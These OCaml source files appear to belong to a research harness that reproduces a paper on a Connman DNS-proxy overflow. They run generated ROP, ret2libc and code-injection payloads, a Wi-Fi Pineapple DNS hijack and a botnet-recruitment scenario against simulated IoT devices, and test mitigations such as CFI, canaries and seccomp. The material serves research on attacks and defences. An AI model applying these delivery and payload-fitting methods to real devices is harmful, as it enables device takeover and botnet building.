
val state : t -> [ `Online | `Crashed | `Compromised | `Blocked ]

val events : t -> string list
(** Human-readable device log, oldest first. *)
