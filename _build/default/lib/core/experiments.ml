module Dnsproxy = Connman.Dnsproxy
module Version = Connman.Version
module Profile = Defense.Profile
module Autogen = Exploit.Autogen
module O = Machine.Outcome

type row = {
  id : string;
  section : string;
  description : string;
  expected : string;
  observed : string;
  ok : bool;
}

let lookup = Dns.Name.of_string "ipv4.connman.net"

let mk_device ?(version = Version.v1_34) ?(seed = 1) ?diversity_seed arch profile =
  Dnsproxy.create
    { Dnsproxy.version; arch; profile; boot_seed = seed; diversity_seed }

(* Build the payload against the attacker's analysis copy (a different
   boot of the same firmware), then fire it over a forged response. *)
let fire ?strategy d =
  let cfg = Dnsproxy.config d in
  let analysis =
    Dnsproxy.process
      (Dnsproxy.create { cfg with Dnsproxy.boot_seed = cfg.Dnsproxy.boot_seed + 5000 })
  in
  match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ?strategy () with
  | Error e -> Error e
  | Ok (payload, raw_name) ->
      let query = Dnsproxy.make_query d lookup in
      Ok
        ( payload,
          Dnsproxy.handle_response d (Autogen.response_for ~query ~raw_name) )

let disposition_word = function
  | Dnsproxy.Cached _ -> "parsed"
  | Dnsproxy.Dropped _ -> "dropped"
  | Dnsproxy.Crashed _ -> "crash"
  | Dnsproxy.Compromised r when O.is_shell r -> "root shell"
  | Dnsproxy.Compromised _ -> "code execution"
  | Dnsproxy.Blocked _ -> "blocked"

let row ~id ~section ~description ~expected observed =
  { id; section; description; expected; observed; ok = expected = observed }

(* --- E0: denial of service --------------------------------------------- *)

let dos_wire q =
  Dns.Craft.hostile_response ~query:q ~raw_name:(Dns.Craft.dos_name ~size:8192) ()

let e0_dos ?(seed = 1) () =
  List.concat_map
    (fun arch ->
      let vulnerable = mk_device ~seed arch Profile.wx in
      let q = Dnsproxy.make_query vulnerable lookup in
      let got = Dnsproxy.handle_response vulnerable (dos_wire q) in
      let patched = mk_device ~version:Version.v1_35 ~seed arch Profile.wx in
      let q2 = Dnsproxy.make_query patched lookup in
      let got2 = Dnsproxy.handle_response patched (dos_wire q2) in
      [
        row
          ~id:(Printf.sprintf "E0/%s" (Loader.Arch.name arch))
          ~section:"§III" ~description:"oversized Type-A response vs 1.34"
          ~expected:"crash" (disposition_word got);
        row
          ~id:(Printf.sprintf "E0/%s/patched" (Loader.Arch.name arch))
          ~section:"§II" ~description:"same response vs patched 1.35"
          ~expected:"parsed" (disposition_word got2);
      ])
    Loader.Arch.all

(* --- E1–E6: the six-exploit matrix -------------------------------------- *)

let matrix_cells =
  [
    ("E1", "§III-A1", Loader.Arch.X86, Profile.none, Autogen.Code_injection,
     "code injection, no protections");
    ("E2", "§III-A2", Loader.Arch.Arm, Profile.none, Autogen.Code_injection,
     "code injection, no protections");
    ("E3", "§III-B1", Loader.Arch.X86, Profile.wx, Autogen.Ret2libc,
     "ret2libc under W^X");
    ("E4", "§III-B2", Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx,
     "gadget chain under W^X");
    ("E5", "§III-C1", Loader.Arch.X86, Profile.wx_aslr, Autogen.Rop_aslr,
     "memcpy/.bss ROP under W^X+ASLR");
    ("E6", "§III-C2", Loader.Arch.Arm, Profile.wx_aslr, Autogen.Rop_aslr,
     "blx-trampoline ROP under W^X+ASLR");
  ]

let e1_to_e6_matrix ?(seed = 1) () =
  List.map
    (fun (id, section, arch, profile, strategy, description) ->
      let d = mk_device ~seed arch profile in
      let observed =
        match fire ~strategy d with
        | Error e -> "generation failed: " ^ e
        | Ok (_, disposition) -> disposition_word disposition
      in
      let description =
        Printf.sprintf "%s (%s)" description (Loader.Arch.name arch)
      in
      row ~id ~section ~description ~expected:"root shell" observed)
    matrix_cells

(* --- E7: Wi-Fi Pineapple remote delivery -------------------------------- *)

let e7_pineapple ?(seed = 1) () =
  let cells =
    [
      ("E7/x86-smash", Loader.Arch.X86, Profile.none, Some Autogen.Code_injection);
      ("E7/arm-inject", Loader.Arch.Arm, Profile.none, Some Autogen.Code_injection);
      ("E7/arm-wx", Loader.Arch.Arm, Profile.wx, Some Autogen.Rop_wx);
      ("E7/arm-aslr", Loader.Arch.Arm, Profile.wx_aslr, Some Autogen.Rop_aslr);
    ]
  in
  List.map
    (fun (id, arch, profile, strategy) ->
      let config =
        {
          Dnsproxy.version = Version.v1_34;
          arch;
          profile;
          boot_seed = seed;
          diversity_seed = None;
        }
      in
      let observed =
        match Scenario.pineapple_attack ~seed ?strategy ~config () with
        | Error e -> "generation failed: " ^ e
        | Ok r -> (
            if r.Scenario.associated_after <> "pineapple" then "no hijack"
            else
              match r.Scenario.attack_disposition with
              | Some d -> disposition_word d
              | None -> "no response")
      in
      row ~id ~section:"§III-D"
        ~description:
          (Printf.sprintf "Pineapple MITM, %s, %s" (Loader.Arch.name arch)
             (Profile.name profile))
        ~expected:"root shell" observed)
    cells

(* --- E8: firmware survey ------------------------------------------------ *)

let e8_survey ?(seed = 1) () =
  List.map
    (fun fw ->
      let d = Dnsproxy.create (Firmware.to_config ~boot_seed:seed fw) in
      let q = Dnsproxy.make_query d lookup in
      let wire =
        Dns.Craft.hostile_response ~query:q
          ~raw_name:(Dns.Craft.dos_name ~size:8192)
          ()
      in
      let got = Dnsproxy.handle_response d wire in
      row
        ~id:("E8/" ^ fw.Firmware.name)
        ~section:"§II–III"
        ~description:
          (Printf.sprintf "%s (connman %s)" fw.Firmware.os
             (Version.to_string fw.Firmware.connman))
        ~expected:(if Firmware.vulnerable fw then "crash" else "parsed")
        (disposition_word got))
    Firmware.catalog

(* --- A1: CFI blocks every code-reuse exploit ---------------------------- *)

let a1_cfi ?(seed = 1) () =
  List.map
    (fun (id, _, arch, profile, strategy, _) ->
      let d = mk_device ~seed arch (Profile.with_cfi profile) in
      let observed =
        match fire ~strategy d with
        | Error e -> "generation failed: " ^ e
        | Ok (_, disposition) -> disposition_word disposition
      in
      let expected =
        (* CFI CaRE guards return edges; pure code injection is already
           dead under W^X but the injected return still violates the
           shadow stack. *)
        "blocked"
      in
      row
        ~id:("A1/" ^ id)
        ~section:"§IV"
        ~description:
          (Printf.sprintf "CFI vs %s on %s" (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected observed)
    matrix_cells

(* --- A2: software diversity --------------------------------------------- *)

let a2_diversity ?(seed = 1) ?(fleet = 16) () =
  let arch = Loader.Arch.Arm in
  let analysis =
    Dnsproxy.process (mk_device ~seed ~diversity_seed:0 arch Profile.wx)
  in
  match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ~strategy:Autogen.Rop_wx () with
  | Error e ->
      [
        row ~id:"A2" ~section:"§IV" ~description:"diversity fleet"
          ~expected:"0 compromised" ("generation failed: " ^ e);
      ]
  | Ok (_, raw_name) ->
      let compromised = ref 0 in
      for i = 1 to fleet do
        let d = mk_device ~seed:(seed + i) ~diversity_seed:i arch Profile.wx in
        let query = Dnsproxy.make_query d lookup in
        match Dnsproxy.handle_response d (Autogen.response_for ~query ~raw_name) with
        | Dnsproxy.Compromised _ -> incr compromised
        | _ -> ()
      done;
      (* Control: the same payload against the build it was made for. *)
      let same = mk_device ~seed:(seed + 999) ~diversity_seed:0 arch Profile.wx in
      let query = Dnsproxy.make_query same lookup in
      let control =
        Dnsproxy.handle_response same (Autogen.response_for ~query ~raw_name)
      in
      [
        (* Diversity is probabilistic protection (§IV): the claim is that a
           single payload stops working across the fleet, not that every
           build is immune — a shuffle can coincide.  Pass when at most an
           eighth of the fleet falls. *)
        {
          id = "A2/fleet";
          section = "§IV";
          description =
            Printf.sprintf "one payload vs %d diversified builds" fleet;
          expected = Printf.sprintf "<= %d compromised" (fleet / 8);
          observed = Printf.sprintf "%d compromised" !compromised;
          ok = !compromised <= fleet / 8;
        };
        row ~id:"A2/control" ~section:"§IV"
          ~description:"same payload vs the build it targets"
          ~expected:"root shell" (disposition_word control);
      ]

(* --- A3: stack canaries -------------------------------------------------- *)

let a3_canary ?(seed = 1) () =
  List.map
    (fun (id, _, arch, profile, strategy, _) ->
      let d = mk_device ~seed arch (Profile.with_canary profile) in
      let observed =
        match fire ~strategy d with
        | Error e -> "generation failed: " ^ e
        | Ok (_, disposition) -> disposition_word disposition
      in
      row
        ~id:("A3/" ^ id)
        ~section:"§III (CFLAGS)"
        ~description:
          (Printf.sprintf "canary vs %s on %s" (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected:"blocked" observed)
    matrix_cells

(* --- A4: ASLR entropy brute-force sweep ---------------------------------- *)

let a4_entropy_sweep ?(seed = 1) ?(trials = 64) ?(bits = [ 0; 2; 4; 6 ]) () =
  let arch = Loader.Arch.X86 in
  (* Attacker hardcodes the static libc layout (analysis without ASLR). *)
  let analysis = Dnsproxy.process (mk_device ~seed arch Profile.wx) in
  match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ~strategy:Autogen.Ret2libc () with
  | Error e ->
      [
        row ~id:"A4" ~section:"related work" ~description:"entropy sweep"
          ~expected:"-" ("generation failed: " ^ e);
      ]
  | Ok (_, raw_name) ->
      List.map
        (fun b ->
          let profile = Profile.with_entropy b Profile.wx in
          let hits = ref 0 in
          for i = 1 to trials do
            let d = mk_device ~seed:(seed + (i * 131)) arch profile in
            let query = Dnsproxy.make_query d lookup in
            match
              Dnsproxy.handle_response d (Autogen.response_for ~query ~raw_name)
            with
            | Dnsproxy.Compromised _ -> incr hits
            | _ -> ()
          done;
          let rate = Stats.binomial_rate ~hits:!hits ~trials in
          let expected_rate = 1.0 /. float_of_int (1 lsl b) in
          (* The Wilson interval of the measurement must cover the theory
             (z = 2.58 for a 99% interval keeps seed-to-seed flakiness
             negligible across the whole sweep). *)
          let interval = Stats.wilson_interval ~hits:!hits ~trials ~z:2.58 () in
          {
            id = Printf.sprintf "A4/%d-bits" b;
            section = "§VI (brute force)";
            description =
              Printf.sprintf "ret2libc vs %d entropy bits (%d trials)" b trials;
            expected = Printf.sprintf "rate ~ %.3f" expected_rate;
            observed = Printf.sprintf "rate = %.3f" rate;
            ok = Stats.interval_contains interval expected_rate;
          })
        bits

(* --- A6: §V adaptation — the toolkit vs dnsmasq-sim ---------------------- *)

let a6_adaptation ?(seed = 1) () =
  let module D = Dnsmasq.Daemon in
  let dnsmasq_target proc =
    Exploit.Target.make
      ~frame:(Dnsmasq.Frame.geometry proc.Loader.Process.arch)
      ~buffer_addr:(Dnsmasq.Frame.buffer_addr proc)
      proc
  in
  let fire_dnsmasq ~patched arch profile strategy =
    let d = D.create { D.patched; arch; profile; boot_seed = seed } in
    let analysis =
      D.process (D.create { D.patched; arch; profile; boot_seed = seed + 5000 })
    in
    match Autogen.generate ~analysis:(dnsmasq_target analysis) ~strategy () with
    | Error e -> "generation failed: " ^ e
    | Ok (_, raw_name) -> (
        let query = D.make_query d (Dns.Name.of_string "upstream.example") in
        match D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ())
        with
        | D.Cached _ -> "parsed"
        | D.Dropped _ -> "dropped"
        | D.Crashed _ -> "crash"
        | D.Compromised r when O.is_shell r -> "root shell"
        | D.Compromised _ -> "code execution"
        | D.Blocked _ -> "blocked")
  in
  List.map
    (fun (id, arch, profile, strategy, patched, expected) ->
      row
        ~id:("A6/" ^ id)
        ~section:"§V"
        ~description:
          (Printf.sprintf "dnsmasq-sim %s: %s on %s"
             (if patched then "2.78" else "2.77")
             (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected
        (fire_dnsmasq ~patched arch profile strategy))
    [
      ("dos", Loader.Arch.X86, Profile.wx, Autogen.Dos, false, "crash");
      ("inject-x86", Loader.Arch.X86, Profile.none, Autogen.Code_injection, false,
       "root shell");
      ("ret2libc-x86", Loader.Arch.X86, Profile.wx, Autogen.Ret2libc, false,
       "root shell");
      ("ropwx-arm", Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx, false,
       "root shell");
      ("ropaslr-arm", Loader.Arch.Arm, Profile.wx_aslr, Autogen.Rop_aslr, false,
       "root shell");
      ("patched", Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx, true, "parsed");
    ]

(* --- A5: the automated generator end-to-end ------------------------------ *)

let a5_autogen ?(seed = 1) () =
  List.map
    (fun (arch, profile) ->
      let d = mk_device ~seed arch profile in
      let observed =
        match fire d with
        | Error e -> "generation failed: " ^ e
        | Ok (payload, disposition) ->
            Printf.sprintf "%s via %s" (disposition_word disposition)
              payload.Exploit.Payload.strategy
      in
      let expected =
        Printf.sprintf "root shell via %s"
          (Autogen.strategy_name (Autogen.choose profile arch))
      in
      row
        ~id:
          (Printf.sprintf "A5/%s-%s" (Loader.Arch.name arch) (Profile.name profile))
        ~section:"§VII" ~description:"strategy auto-selection" ~expected observed)
    [
      (Loader.Arch.X86, Profile.none);
      (Loader.Arch.X86, Profile.wx);
      (Loader.Arch.X86, Profile.wx_aslr);
      (Loader.Arch.Arm, Profile.none);
      (Loader.Arch.Arm, Profile.wx);
      (Loader.Arch.Arm, Profile.wx_aslr);
    ]

(* --- A8: §V protocol adaptation — crafted TCP packets --------------------- *)

let a8_tcp_carrier ?(seed = 1) () =
  let module D = Tcpsvc.Daemon in
  let tcpsvc_target proc =
    Exploit.Target.make
      ~frame:(Tcpsvc.Frame.geometry proc.Loader.Process.arch)
      ~buffer_addr:(Tcpsvc.Frame.buffer_addr proc)
      proc
  in
  let fire ~patched arch profile strategy =
    let d = D.create { D.patched; arch; profile; boot_seed = seed } in
    let analysis =
      D.process (D.create { D.patched; arch; profile; boot_seed = seed + 5000 })
    in
    match Autogen.build ~analysis:(tcpsvc_target analysis) strategy with
    | Error e -> Format.asprintf "generation failed: %a" Exploit.Payload.pp_error e
    | Ok payload -> (
        match
          D.handle_frame d (D.frame ~tag:(Exploit.Payload.to_raw_bytes payload))
        with
        | D.Handled -> "handled"
        | D.Rejected _ -> "rejected"
        | D.Crashed _ -> "crash"
        | D.Compromised r when O.is_shell r -> "root shell"
        | D.Compromised _ -> "code execution"
        | D.Blocked _ -> "blocked")
  in
  List.map
    (fun (id, arch, profile, strategy, patched, expected) ->
      row
        ~id:("A8/" ^ id)
        ~section:"§V"
        ~description:
          (Printf.sprintf "tcpsvc-sim %s: %s on %s"
             (if patched then "1.1" else "1.0")
             (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected
        (fire ~patched arch profile strategy))
    [
      ("inject-arm", Loader.Arch.Arm, Profile.none, Autogen.Code_injection, false,
       "root shell");
      ("ret2libc-x86", Loader.Arch.X86, Profile.wx, Autogen.Ret2libc, false,
       "root shell");
      ("ropaslr-x86", Loader.Arch.X86, Profile.wx_aslr, Autogen.Rop_aslr, false,
       "root shell");
      ("ropaslr-arm", Loader.Arch.Arm, Profile.wx_aslr, Autogen.Rop_aslr, false,
       "root shell");
      ("patched", Loader.Arch.Arm, Profile.wx, Autogen.Rop_wx, true, "rejected");
    ]

(* --- A7: seccomp syscall filter ------------------------------------------ *)

let a7_seccomp ?(seed = 1) () =
  List.map
    (fun (id, _, arch, profile, strategy, _) ->
      let d = mk_device ~seed arch (Profile.with_seccomp profile) in
      let observed =
        match fire ~strategy d with
        | Error e -> "generation failed: " ^ e
        | Ok (_, disposition) -> disposition_word disposition
      in
      row
        ~id:("A7/" ^ id)
        ~section:"hardening"
        ~description:
          (Printf.sprintf "seccomp (no exec) vs %s on %s"
             (Autogen.strategy_name strategy)
             (Loader.Arch.name arch))
        ~expected:"blocked" observed)
    matrix_cells

let all ?(seed = 1) () =
  e0_dos ~seed ()
  @ e1_to_e6_matrix ~seed ()
  @ e7_pineapple ~seed ()
  @ e8_survey ~seed ()
  @ a1_cfi ~seed ()
  @ a2_diversity ~seed ()
  @ a3_canary ~seed ()
  @ a4_entropy_sweep ~seed ()
  @ a5_autogen ~seed ()
  @ a6_adaptation ~seed ()
  @ a7_seccomp ~seed ()
  @ a8_tcp_carrier ~seed ()

let pp_table ppf rows =
  let line =
    String.make 118 '-'
  in
  Format.fprintf ppf "%s@." line;
  Format.fprintf ppf "%-16s %-16s %-42s %-20s %-16s %s@." "id" "section"
    "description" "expected" "observed" "ok";
  Format.fprintf ppf "%s@." line;
  List.iter
    (fun r ->
      Format.fprintf ppf "%-16s %-16s %-42s %-20s %-16s %s@." r.id r.section
        (if String.length r.description > 42 then
           String.sub r.description 0 39 ^ "..."
         else r.description)
        r.expected r.observed
        (if r.ok then "PASS" else "FAIL"))
    rows;
  Format.fprintf ppf "%s@." line;
  let passed = List.length (List.filter (fun r -> r.ok) rows) in
  Format.fprintf ppf "%d/%d experiment rows reproduce the paper@." passed
    (List.length rows)

let pp_markdown ppf rows =
  Format.fprintf ppf "| id | section | description | expected | observed | ok |@.";
  Format.fprintf ppf "|---|---|---|---|---|---|@.";
  List.iter
    (fun r ->
      Format.fprintf ppf "| %s | %s | %s | %s | %s | %s |@." r.id r.section
        r.description r.expected r.observed
        (if r.ok then "✅" else "❌"))
    rows
