(** The experiment index: every §III result, the §III-D remote delivery,
    the firmware survey, and the §IV mitigation ablations — each
    reproduced as a checkable row (see DESIGN.md's experiment table).

    Rows carry the expected outcome (the paper's claim) and the observed
    one; [ok] means they agree.  [all] is what [bench/main.exe] and
    EXPERIMENTS.md report. *)

type row = {
  id : string;  (** e.g. "E5" *)
  section : string;  (** paper section, e.g. "§III-C1" *)
  description : string;
  expected : string;
  observed : string;
  ok : bool;
}

val e0_dos : ?seed:int -> unit -> row list
val e1_to_e6_matrix : ?seed:int -> unit -> row list
val e7_pineapple : ?seed:int -> unit -> row list
val e8_survey : ?seed:int -> unit -> row list
val a1_cfi : ?seed:int -> unit -> row list
val a2_diversity : ?seed:int -> ?fleet:int -> unit -> row list
val a3_canary : ?seed:int -> unit -> row list

val a4_entropy_sweep : ?seed:int -> ?trials:int -> ?bits:int list -> unit -> row list
(** Brute-forcing hardcoded libc addresses against restarting daemons:
    measured success rate vs the 2^-bits expectation (the related-work
    D-Link brute-force discussion). *)

val a5_autogen : ?seed:int -> unit -> row list

val a6_adaptation : ?seed:int -> unit -> row list
(** §V: the same toolkit retargeted (frame-geometry swap only) to the
    dnsmasq-sim daemon — DoS, all four RCE strategies, and the patched
    2.78 control. *)

val a7_seccomp : ?seed:int -> unit -> row list
(** A syscall filter denying exec: every RCE strategy reaches the exec
    attempt and dies there — damage limited to a daemon kill (DoS). *)

val a8_tcp_carrier : ?seed:int -> unit -> row list
(** §V's broader claim: "any protocol-based overflow vulnerability is
    susceptible, as long as the code is modified to craft the appropriate
    packet" — the same payloads delivered verbatim inside a framed TCP
    message to tcpsvc-sim. *)

val all : ?seed:int -> unit -> row list
(** Every experiment, in index order (entropy sweep and diversity run at
    reduced trial counts suitable for a test/bench pass). *)

val pp_table : Format.formatter -> row list -> unit
val pp_markdown : Format.formatter -> row list -> unit
