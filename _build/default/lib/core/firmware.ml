module V = Connman.Version

type t = {
  name : string;
  os : string;
  connman : V.t;
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  notes : string;
}

let catalog =
  [
    {
      name = "ubuntu-16.04-x86";
      os = "Ubuntu 16.04 LTS";
      connman = V.v1_34;
      arch = Loader.Arch.X86;
      profile = Defense.Profile.wx_aslr;
      notes = "the paper's x86 testbed VM";
    };
    {
      name = "ubuntu-mate-rpi3";
      os = "Ubuntu Mate 16.04";
      connman = V.v1_34;
      arch = Loader.Arch.Arm;
      profile = Defense.Profile.wx_aslr;
      notes = "the paper's Raspberry Pi 3 testbed";
    };
    {
      name = "yocto-build";
      os = "Yocto Project";
      connman = V.v1_31;
      arch = Loader.Arch.Arm;
      profile = Defense.Profile.wx;
      notes = "distributions compiled with Connman 1.31 (§III)";
    };
    {
      name = "openelec-8";
      os = "OpenELEC";
      connman = V.v1_34;
      arch = Loader.Arch.Arm;
      profile = Defense.Profile.wx;
      notes = "media-streaming OS shipping the last vulnerable release";
    };
    {
      name = "tizen-3";
      os = "Tizen 3.0";
      connman = V.v1_33;
      arch = Loader.Arch.Arm;
      profile = Defense.Profile.wx_aslr;
      notes = "vulnerable until Tizen 4.0 (§III)";
    };
    {
      name = "tizen-4";
      os = "Tizen 4.0";
      connman = V.v1_35;
      arch = Loader.Arch.Arm;
      profile = Defense.Profile.wx_aslr;
      notes = "first Tizen with the patched Connman";
    };
    {
      name = "nest-like-thermostat";
      os = "Linux (custom)";
      connman = V.v1_32;
      arch = Loader.Arch.Arm;
      profile = Defense.Profile.none;
      notes = "minimal build: no W⊕X, no ASLR (§II device class)";
    };
  ]

let vulnerable t = V.vulnerable t.connman
let find name = List.find_opt (fun f -> f.name = name) catalog

let to_config ?(boot_seed = 1) t =
  {
    Connman.Dnsproxy.version = t.connman;
    arch = t.arch;
    profile = t.profile;
    boot_seed;
    diversity_seed = None;
  }

let pp ppf t =
  Format.fprintf ppf "%-22s %-18s connman %-5s %-5s %s" t.name t.os
    (V.to_string t.connman) (Loader.Arch.name t.arch)
    (Defense.Profile.name t.profile)
