(** IoT firmware catalogue (§II–III).

    The paper names three embedded OSes still shipping vulnerable Connman
    builds at the time of writing — Yocto (1.31), OpenELEC (1.34), Tizen
    before 4.0 — plus its own testbeds (Ubuntu 16.04 x86, Ubuntu Mate on
    a Raspberry Pi 3).  Each entry binds an OS image to a Connman version,
    architecture, and the protection profile the image ships with. *)

type t = {
  name : string;
  os : string;
  connman : Connman.Version.t;
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  notes : string;
}

val catalog : t list

val vulnerable : t -> bool

val find : string -> t option
(** Lookup by [name]. *)

val to_config : ?boot_seed:int -> t -> Connman.Dnsproxy.config

val pp : Format.formatter -> t -> unit
