module W = Netsim.World
module Ip = Netsim.Ip
module Dnsproxy = Connman.Dnsproxy
module Autogen = Exploit.Autogen

type result = {
  device : Device.t;
  associated_before : string;
  associated_after : string;
  dns_before : Ip.t option;
  dns_after : Ip.t option;
  benign_disposition : Dnsproxy.disposition option;
  attack_disposition : Dnsproxy.disposition option;
  queries_intercepted : int;
  strategy : string;
}

let home_ssid = "HomeWiFi"

let pineapple_attack ?(seed = 11) ?strategy ~config () =
  let world = W.create ~seed () in
  (* The honest Internet: a resolver that actually knows the connectivity
     host. *)
  let internet = W.add_lan world ~name:"internet" in
  let resolver_ip = Ip.of_string "8.8.8.8" in
  let resolver = W.add_host world ~name:"resolver" in
  W.set_host_ip resolver (Some resolver_ip);
  W.attach resolver internet;
  Netsim.Dns_server.resolver world resolver
    ~zone:[ ("ipv4.connman.net", Ip.of_string "93.184.216.34") ];
  (* The home network: router (gateway + DHCP advertising the honest
     resolver) and the legitimate AP. *)
  let home = W.add_lan world ~name:"home" in
  W.set_uplink home (Some internet);
  let router = W.add_host world ~name:"home-router" in
  W.set_host_ip router (Some (Ip.of_string "192.168.1.1"));
  W.attach router home;
  Netsim.Dhcp.serve world router ~first_ip:(Ip.of_string "192.168.1.100")
    ~dns:resolver_ip;
  let home_ap =
    Netsim.Wifi.ap ~name:"home-ap" ~ssid:home_ssid ~signal_dbm:(-60) home
  in
  (* The victim device joins its home network and performs the
     connectivity check through the honest chain. *)
  let device = Device.create world ~name:"iot-device" ~config in
  ignore (Device.join_wifi device [ home_ap ] ~ssid:home_ssid);
  ignore (W.run world);
  let associated_before =
    match W.lan_of (Device.host device) with
    | Some lan -> W.lan_name lan
    | None -> "-"
  in
  let dns_before = W.host_dns (Device.host device) in
  let benign_disposition = Device.last_disposition device in
  (* The attacker's offline work: an analysis copy of the same firmware
     (their own device), payload generation per the protection profile. *)
  let analysis =
    Dnsproxy.process
      (Dnsproxy.create { config with Dnsproxy.boot_seed = config.Dnsproxy.boot_seed + 5000 })
  in
  match Autogen.generate ~analysis:(Exploit.Target.connman analysis) ?strategy () with
  | Error e -> Error e
  | Ok (payload, raw_name) ->
      (* The Wi-Fi Pineapple: impersonates the home SSID at higher power,
         runs its own LAN with attacker-controlled DHCP and DNS. *)
      let pineapple_lan = W.add_lan world ~name:"pineapple" in
      let attacker_ip = Ip.of_string "172.16.42.1" in
      let attacker = W.add_host world ~name:"pineapple-box" in
      W.set_host_ip attacker (Some attacker_ip);
      W.attach attacker pineapple_lan;
      Netsim.Dhcp.serve world attacker ~first_ip:(Ip.of_string "172.16.42.100")
        ~dns:attacker_ip;
      let intercepted = ref 0 in
      Netsim.Dns_server.malicious world attacker ~forge:(fun ~query ~raw:_ ->
          incr intercepted;
          Some (Autogen.response_for ~query ~raw_name));
      let pineapple_ap =
        Netsim.Wifi.ap ~name:"pineapple-ap" ~ssid:home_ssid ~signal_dbm:(-30)
          pineapple_lan
      in
      (* The device re-scans; the Pineapple broadcasts the trusted SSID at
         a stronger signal, so the association flips with no configuration
         change on the victim (§III-D). *)
      ignore (Device.join_wifi device [ home_ap; pineapple_ap ] ~ssid:home_ssid);
      ignore (W.run world);
      Ok
        {
          device;
          associated_before;
          associated_after =
            (match W.lan_of (Device.host device) with
            | Some lan -> W.lan_name lan
            | None -> "-");
          dns_before;
          dns_after = W.host_dns (Device.host device);
          benign_disposition;
          attack_disposition = Device.last_disposition device;
          queries_intercepted = !intercepted;
          strategy = payload.Exploit.Payload.strategy;
        }

(* --- botnet recruitment (the §III-D Mirai remark) ----------------------

   A whole fleet of IoT devices shares one coffee-shop-style network whose
   DNS the attacker controls (cache poisoning / rogue AP — the delivery
   detail does not matter here).  Every device that performs its
   connectivity check through that resolver gets the payload fitted to its
   own firmware; vulnerable ones join the botnet. *)

type botnet_result = {
  fleet : (string * [ `Recruited | `Resisted | `Crashed ]) list;
  recruited : int;
  resisted : int;
}

let botnet_recruitment ?(seed = 3) ~firmwares () =
  let world = W.create ~seed () in
  let lan = W.add_lan world ~name:"venue" in
  let attacker_ip = Ip.of_string "10.66.0.1" in
  let attacker = W.add_host world ~name:"poisoned-resolver" in
  W.set_host_ip attacker (Some attacker_ip);
  W.attach attacker lan;
  Netsim.Dhcp.serve world attacker ~first_ip:(Ip.of_string "10.66.0.100")
    ~dns:attacker_ip;
  (* One analysis copy (and payload) per distinct firmware build. *)
  let payload_for =
    let cache = Hashtbl.create 8 in
    fun (config : Dnsproxy.config) ->
      let key =
        ( Connman.Version.to_string config.Dnsproxy.version,
          Loader.Arch.name config.Dnsproxy.arch,
          Defense.Profile.name config.Dnsproxy.profile )
      in
      match Hashtbl.find_opt cache key with
      | Some r -> r
      | None ->
          let analysis =
            Dnsproxy.process
              (Dnsproxy.create { config with Dnsproxy.boot_seed = 987_654 })
          in
          let r =
            match
              Autogen.generate ~analysis:(Exploit.Target.connman analysis) ()
            with
            | Ok (_, raw_name) -> Some raw_name
            | Error _ -> None
          in
          Hashtbl.replace cache key r;
          r
  in
  let devices =
    List.mapi
      (fun i fw ->
        let name = Printf.sprintf "%s-%d" fw.Firmware.name i in
        let config = Firmware.to_config ~boot_seed:(seed + i) fw in
        let d = Device.create world ~name ~config in
        (* The poisoned resolver forges per-query, fitted to this device's
           firmware (the attacker knows the fleet's make-up). *)
        (d, config))
      firmwares
  in
  (* Attribute each query to its device by outstanding transaction id,
     then answer with the payload fitted to that device's firmware. *)
  Netsim.Dns_server.malicious world attacker ~forge:(fun ~query ~raw:_ ->
      let id = query.Dns.Packet.header.Dns.Packet.id in
      let owner =
        List.find_opt
          (fun (d, _) -> Dnsproxy.peek_pending (Device.daemon d) id <> None)
          devices
      in
      match owner with
      | Some (_, config) -> (
          match payload_for config with
          | Some raw_name -> Some (Autogen.response_for ~query ~raw_name)
          | None -> None)
      | None -> None);
  let ap =
    Netsim.Wifi.ap ~name:"venue-ap" ~ssid:"FreeWiFi" ~signal_dbm:(-45) lan
  in
  List.iter (fun (d, _) -> ignore (Device.join_wifi d [ ap ] ~ssid:"FreeWiFi"))
    devices;
  ignore (W.run world);
  let fleet =
    List.map
      (fun (d, _) ->
        let status =
          match Device.state d with
          | `Compromised -> `Recruited
          | `Crashed -> `Crashed
          | `Online | `Blocked -> `Resisted
        in
        (Device.name d, status))
      devices
  in
  {
    fleet;
    recruited = List.length (List.filter (fun (_, s) -> s = `Recruited) fleet);
    resisted = List.length (List.filter (fun (_, s) -> s <> `Recruited) fleet);
  }

let pp_disposition_opt ppf = function
  | None -> Format.pp_print_string ppf "-"
  | Some d -> Dnsproxy.pp_disposition ppf d

let pp_result ppf r =
  Format.fprintf ppf
    "@[<v>device: %s@,\
     association: %s -> %s@,\
     dns server: %s -> %s@,\
     benign lookup: %a@,\
     strategy: %s (%d queries intercepted)@,\
     attack result: %a@]"
    (Device.name r.device) r.associated_before r.associated_after
    (match r.dns_before with Some ip -> Ip.to_string ip | None -> "-")
    (match r.dns_after with Some ip -> Ip.to_string ip | None -> "-")
    pp_disposition_opt r.benign_disposition r.strategy r.queries_intercepted
    pp_disposition_opt r.attack_disposition
