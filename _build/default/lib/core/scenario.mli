(** End-to-end attack scenarios (§III-D).

    {!pineapple_attack} reproduces the paper's remote experiment: a
    victim device associated to its home network is lured onto a Wi-Fi
    Pineapple impersonating the same SSID at higher signal strength; the
    Pineapple's DHCP assigns the attacker's DNS server; the very next
    connectivity check delivers the exploit. *)

type result = {
  device : Device.t;
  associated_before : string;  (** AP name after the initial join *)
  associated_after : string;  (** AP name after the Pineapple appears *)
  dns_before : Netsim.Ip.t option;
  dns_after : Netsim.Ip.t option;
  benign_disposition : Connman.Dnsproxy.disposition option;
      (** the connectivity check through the honest resolver *)
  attack_disposition : Connman.Dnsproxy.disposition option;
      (** the connectivity check through the Pineapple *)
  queries_intercepted : int;
  strategy : string;
}

val pineapple_attack :
  ?seed:int ->
  ?strategy:Exploit.Autogen.strategy ->
  config:Connman.Dnsproxy.config ->
  unit ->
  (result, string) Result.t
(** [Error] only on payload-generation failure; an unsuccessful exploit
    still returns [Ok] with the observed dispositions.  The strategy
    defaults to the generator's §III decision table for the device's
    protections. *)

